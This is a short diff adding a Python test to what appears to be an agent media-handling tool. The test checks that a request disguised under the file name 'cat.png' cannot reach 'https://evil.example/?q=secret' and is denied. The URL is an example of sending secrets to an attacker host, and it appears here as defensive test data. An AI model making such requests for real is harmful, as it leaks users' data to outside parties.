@@ -142,3 +142,8 @@ def test_results_show_reasoning_and_media():
 
 def test_every_known_ending_belongs_to_a_kind():
     assert {kind.split("/")[0] for kind in agent_media.TYPES.values()} == {"image", "audio", "text", "application"}
+
+
+async def test_a_name_does_not_stand_for_the_right_to_connect(folder: Path) -> None:
+    with pytest.raises(PermissionDeniedError, match="evil.example"):
+        await read(folder, images=MediaOptions(url="https://evil.example/?q=secret", name="cat.png"))
